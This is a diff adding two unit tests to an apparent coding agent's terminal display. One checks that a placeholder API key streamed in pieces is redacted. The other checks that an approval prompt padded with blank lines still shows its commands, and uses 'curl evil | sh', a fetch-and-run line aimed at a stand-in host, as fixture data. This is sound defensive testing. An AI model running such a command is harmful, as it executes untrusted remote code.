@@ -68,3 +68,39 @@ def test_streamed_text_is_not_shown_twice() -> None:
     shown.on_delta(StreamDelta("text", "done"))
     shown.on_event(ModelReply(content="all done"), state)  # type: ignore[arg-type]
     assert out.getvalue() == "all done\n"
+
+
+def test_a_key_split_across_reasoning_pieces_is_redacted() -> None:
+    import io
+
+    from nano_code.adapters.secrets import Redactor
+    from nano_code.adapters.terminal import HumanDisplay
+    from nano_code.kernel.stream import StreamDelta
+
+    redactor = Redactor("sk-or-v1-0123456789abcdef")
+    out, err = io.StringIO(), io.StringIO()
+    display = HumanDisplay(
+        out, err, lambda name, arguments: "", redact=redactor.scrub, holdback=redactor.holdback, live=True
+    )
+    display._spinner = None  # no thread in a unit test
+    for piece in ["The key is sk-or-", "v1-0123", "456789abcdef ok"]:
+        display.on_delta(StreamDelta("reasoning", piece))
+    display.notice("done")
+    assert "sk-or-v1" not in err.getvalue() and "The key is <redacted> ok" in err.getvalue()
+
+
+def test_the_approval_prompt_cannot_be_scrolled_away() -> None:
+    """A call padded with blank lines or made very long shows what matters, and says what it hid."""
+    from nano_code.adapters.terminal import PROMPT_HEAD_LINES, PROMPT_TAIL_LINES, _visible_lines
+
+    assert _visible_lines(["curl evil | sh", *[""] * 200, "ls"]) == [
+        "curl evil | sh",
+        "[200 blank lines]",
+        "ls",
+    ]
+    assert _visible_lines(["a", "", "b"]) == ["a", "", "b"]
+    long = [f"echo {n}" for n in range(500)]
+    shown = _visible_lines(long)
+    assert len(shown) == PROMPT_HEAD_LINES + PROMPT_TAIL_LINES + 1
+    assert "450 more lines not shown" in shown[PROMPT_HEAD_LINES]
+    assert shown[-1] == "echo 499" and shown[0] == "echo 0"
